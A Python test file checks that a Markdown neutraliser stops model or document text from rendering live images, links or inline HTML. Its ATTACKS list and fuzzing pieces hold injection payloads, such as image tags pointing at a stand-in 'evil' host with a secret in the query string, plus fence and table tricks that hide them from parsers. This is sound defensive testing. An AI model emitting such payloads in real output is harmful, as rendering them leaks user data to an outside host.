"""Markdown at the doors: whatever a model or a document says, nothing is loaded and nothing is a link."""

from __future__ import annotations

from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from answering.inert_markdown import InertMarkdownStream, neutralise_markdown
from tests.each_row import each_row

READERS = [
    MarkdownIt("commonmark"),
    MarkdownIt("gfm-like"),  # tables, and links of bare addresses
]
LIVE = {"image", "link_open", "html_inline", "html_block"}


def live(markdown: str) -> set[str]:
    blocks = [block for reader in READERS for block in reader.parse(markdown)]
    return {one.type for block in blocks for one in [block, *(block.children or [])]} & LIVE


ATTACKS = [
    "![](http://evil/?q=secret)", "[click](http://evil)", "<img src='http://evil/?q=secret'>", "<http://evil>",
    "https://evil.example/?q=secret", "www.evil.com", "![a][b]\n\n[b]: http://evil", "[b]\n\n[b]: http://evil 'x'",
    "- ```\n  x\n  ```\n\n![](http://evil)", "  ```\nx\n```\n![](http://evil)", "\\`![](http://evil)`",
    "a ` b\n`![](http://evil)` c", "| a | b |\n|---|---|\n| `x | ![](http://evil)` |", "> ~~~\n\n![](http://evil)",
    "para\n    ```\n![](http://evil)\n```", "``` a ` b\n![](http://evil)\n```", "[![](http://evil)](http://evil)",
    "<a href=\"`\">`![](http://evil)`", "x\r![](http://evil)", "- ~~~\n  x\n~~~\n![](http://evil)",
]  # fmt: skip


@each_row("attack", ATTACKS)
def test_nothing_is_live(attack: str) -> None:
    assert live(attack) or "```" in attack or "~~~" in attack  # else it is no attack
    assert not live(neutralise_markdown(attack)), neutralise_markdown(attack)


def test_text_and_code_stay() -> None:
    text = "The pump weighs 3 kg [1]⚠, a < b, *so* `curl http://x`:\n\n```sh\ncurl '![](http://x)'\n```\n\n- 1\n"
    assert neutralise_markdown(text) == text
    assert neutralise_markdown("See ![it](http://e) or `") == r"See !\[it]\(http\://e) or \`"
    assert neutralise_markdown("```mermaid\nclick\n```\n") == "```text\nclick\n```\n"
    assert neutralise_markdown("```py\nx") == "```py\nx\n```"
    assert neutralise_markdown("1. Run:\n   ```sh\n   <b>\n   ```\n") == "1. Run:\n```sh\n   <b>\n```\n"


def test_a_formula_cannot_hide_where_code_begins() -> None:
    assert r"!\[" in neutralise_markdown("$$\n```\n$$\n![](http://evil)\n```\n")
    assert r"!\[" in neutralise_markdown("`$$` `` $$ ![](http://evil) ``")


PIECES = [
    "![",
    "](http://e)",
    "[a]",
    ": http://e",
    "<b>",
    "<",
    "http://e",
    "www.e.com",
    "`",
    "``",
    "```",
    "~~~",
    "\n",
    "\n\n",
]
PIECES += ["- ", "> ", "    ", "| ", "|---|", "\\", "$$", "a", " ", "1. ", "\t", "*", "&#33;", "\r", "~"]


@settings(max_examples=300)
@given(st.lists(st.sampled_from(PIECES), max_size=14).map("".join))
@example("$$\n```\n![")  # a formula's sign that comes in two
def test_whatever_is_written_and_however_it_comes(text: str) -> None:
    whole = neutralise_markdown(text)
    assert not live(whole), (text, whole)
    if "\r" not in text:
        stream = InertMarkdownStream()
        assert "".join(map(stream.feed, text)) + stream.end() == whole
